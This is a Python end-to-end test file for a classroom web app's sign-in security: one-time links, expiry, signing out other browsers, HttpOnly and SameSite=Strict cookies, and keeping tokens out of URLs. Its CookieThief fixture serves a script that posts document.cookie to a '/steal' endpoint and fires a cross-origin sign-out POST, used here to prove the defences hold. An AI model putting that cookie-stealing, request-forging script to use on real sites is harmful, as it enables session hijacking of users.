"""Signing in, attacked in Chromium on a real class server: a sign-in link is a one-time pass (a second
browser, or the history of a shared lab PC, gets nothing from it; an old one is refused) that gives its
browser a token of its own, which "sign out everywhere else" ends; the identity cookie is the server's,
HttpOnly and SameSite=Strict, so neither the app's page nor a page served from another port of the same
machine reads a token; and no token is ever in an address the browser visited."""

from __future__ import annotations

import http.server
import re
import threading

import pytest
from polling import wait_for

from softmax_core.classroom.auth import (
    SIGN_IN_LINK_SECONDS,
    SIGN_IN_PATH,
    ClassDoor,
    ClassroomSettings,
    hash_password,
    make_teacher_link,
)
from softmax_core.classroom.names import canonical_name
from softmax_core.runs.store import RunStore

from .conftest import Server, body_text
from .test_classroom_mode import CLASS_CODE, TEACHER_PASSWORD, join, log_in_as_teacher

pytestmark = pytest.mark.e2e
DEVICE_COOKIE, TEACHER_COOKIE = "softmax_lab_device", "softmax_lab_teacher_session"


@pytest.fixture
def class_server(tmp_path, real_data_dir):
    env = {"SOFTMAX_LAB_CLASS_CODE": CLASS_CODE, "SOFTMAX_LAB_TEACHER_PASSWORD": hash_password(TEACHER_PASSWORD)}
    server = Server(f"sqlite:///{tmp_path}/runs.db", real_data_dir, tmp_path / "streamlit.log", env=env).start()
    try:
        yield server
    finally:
        server.stop()


def tokens_of(page) -> set[str]:
    """The values of the app's identity cookies in this browser (the tokens, whatever their names)."""
    return {c["value"] for c in page.context.cookies() if c["name"].startswith("softmax_lab") and c["value"]}


def make_sign_in_link(page) -> str:
    """Ada's "sign in on another device" link, as the sidebar shows it."""
    page.get_by_text("Sign out, or sign in elsewhere").click()
    page.get_by_text("Show a sign-in link for another device").click()
    make = page.get_by_role("button", name="Make a new link")
    code = page.locator('[data-testid="stCode"]').filter(has_text="http")
    make.or_(code).first.wait_for()
    if make.count():  # (the release before one-time links showed the link at once)
        make.click()
    code.wait_for()
    return re.search(r"http\S+", code.inner_text()).group(0)


def age_passes(db_url: str, seconds: float) -> None:
    from softmax_core.runs.store.schema import passes_table

    with RunStore(db_url).engine.begin() as conn:
        conn.execute(passes_table.update().values(expires_at=passes_table.c.expires_at - seconds))


def test_a_sign_in_link_is_one_browsers_once_and_sign_out_everywhere_else_ends_it(new_page, class_server):
    ada = new_page()
    join(ada, class_server.url, "Ada")
    link = make_sign_in_link(ada)
    laptop, lab_pc = new_page(), new_page()
    laptop.goto(link)
    laptop.get_by_text("Signed in as Ada").wait_for()
    assert tokens_of(laptop).isdisjoint(tokens_of(ada)), "the second browser has a token of its own"
    lab_pc.goto(link)  # the same link again: another browser, or the lab PC's history
    lab_pc.get_by_text("used already or has expired").wait_for()
    assert "Signed in as" not in body_text(lab_pc) and not tokens_of(lab_pc)

    stale = make_sign_in_link(laptop)
    age_passes(class_server.db_url, SIGN_IN_LINK_SECONDS + 1)
    late = new_page()
    late.goto(stale)
    late.get_by_text("used already or has expired").wait_for()
    assert not tokens_of(late), "a link older than its lifetime signs nobody in"

    ada.keyboard.press("Escape")
    ada.get_by_text("Sign out, or sign in elsewhere").click()
    ada.get_by_role("button", name="Sign out everywhere else").click()
    ada.get_by_text("only this browser is still you").wait_for()
    laptop.reload()
    laptop.get_by_text("Join the class").wait_for()
    ada.reload()
    ada.get_by_text("Signed in as Ada").wait_for()

    classroom = RunStore(class_server.db_url).classroom
    door = ClassDoor(ClassroomSettings(CLASS_CODE), classroom)
    bob = classroom.add_student("Bob", name_key=canonical_name("Bob"))
    bobs_link = f"{class_server.url}{SIGN_IN_PATH}?pass={door.student_pass(bob)}"
    ada.goto(bobs_link)  # Bob's link, in Ada's browser
    ada.get_by_text("This link signs in as Bob, but this browser is signed in as Ada").wait_for()
    ada.get_by_role("button", name="Stay signed in as Ada").click()
    ada.get_by_text("Signed in as Ada").wait_for()
    ada.goto(bobs_link)
    ada.get_by_text("used already or has expired").wait_for()  # staying spent it: its history copy is dead
    ada.goto(f"{class_server.url}{SIGN_IN_PATH}?pass={door.student_pass(bob)}")
    ada.get_by_role("button", name="Switch to Bob").click()
    ada.get_by_text("Signed in as Bob").wait_for()


class CookieThief(http.server.BaseHTTPRequestHandler):
    """A page on another port of the server's machine: it reads document.cookie and posts it to itself,
    and tries to sign the app's browser out (the same site, so the browser sends the app's cookie along)."""

    stolen: list[str] = []
    PAGE = """<!doctype html><p id=ready>hello</p><script>
fetch('/steal', {method: 'POST', body: 'cookies=' + document.cookie})
.then(() => fetch('APP/auth/sign-out', {method: 'POST', mode: 'no-cors', credentials: 'include',
  headers: {'Content-Type': 'application/x-www-form-urlencoded'}, body: 'next=/'}))
.finally(() => { document.getElementById('ready').textContent = 'sent'; });</script>"""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.PAGE.replace("APP", self.path.split("app=", 1)[-1]).encode())

    def do_POST(self):
        CookieThief.stolen.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def thief_url():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), CookieThief)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    CookieThief.stolen = []
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_the_identity_cookie_is_http_only_and_a_page_on_another_port_reads_no_token(new_page, class_server,
                                                                                      thief_url):
    ada, teacher = new_page(), new_page()
    join(ada, class_server.url, "Ada")
    log_in_as_teacher(teacher, class_server.url)
    teacher.get_by_text("Signed in as the teacher").wait_for()
    for page, name in ((ada, DEVICE_COOKIE), (teacher, TEACHER_COOKIE)):
        [cookie] = [c for c in page.context.cookies() if c["name"].startswith("softmax_lab") and c["value"]]
        assert (cookie["name"], cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (name, True, "Strict", "/")
        assert cookie["value"] not in page.evaluate("document.cookie"), "no script of the app's page reads it"
        page.goto(f"{thief_url}/?app={class_server.url}")
        page.get_by_text("sent").wait_for()
        assert CookieThief.stolen and cookie["value"] not in CookieThief.stolen[-1], "nor one on another port"
        page.goto(class_server.url)
        page.get_by_text("Signed in as").wait_for()  # its sign-out POST came from a foreign origin: refused
    # (that other port's page may still open the app's websocket with a foreign Origin: refusing that is
    # the Origin middleware's job, tested with it)


def test_no_token_is_ever_in_an_address_the_browser_visited(new_page, class_server):
    visited: list[str] = []

    def watched():
        page = new_page()
        page.on("framenavigated", lambda frame: visited.append(frame.url) if frame == page.main_frame else None)
        page.on("request", lambda request: visited.append(request.url))
        return page

    ada, teacher, console, laptop = watched(), watched(), watched(), watched()
    join(ada, f"{class_server.url}/board", "Ada")
    assert ada.url == f"{class_server.url}/board", "the join lands where it started, with nothing added"
    log_in_as_teacher(teacher, class_server.url)
    teacher.get_by_text("Signed in as the teacher").wait_for()
    console.goto(f"{class_server.url}/auth/sign-in?pass={make_teacher_link(RunStore(class_server.db_url).classroom)}"
                 "&next=/board")
    console.get_by_text("Signed in as the teacher").wait_for()
    assert console.url == f"{class_server.url}/board", "the pass leaves the address bar"
    laptop.goto(make_sign_in_link(ada))
    laptop.get_by_text("Signed in as Ada").wait_for()
    assert "pass=" not in laptop.url
    tokens = set().union(*(tokens_of(page) for page in (ada, teacher, console, laptop)))
    assert len(tokens) == 4
    wait_for(lambda: visited, timeout=1, what="the addresses")
    leaked = [url for url in visited if any(token in url for token in tokens)]
    assert leaked == [], "no token in any address bar, history entry or request's URL"
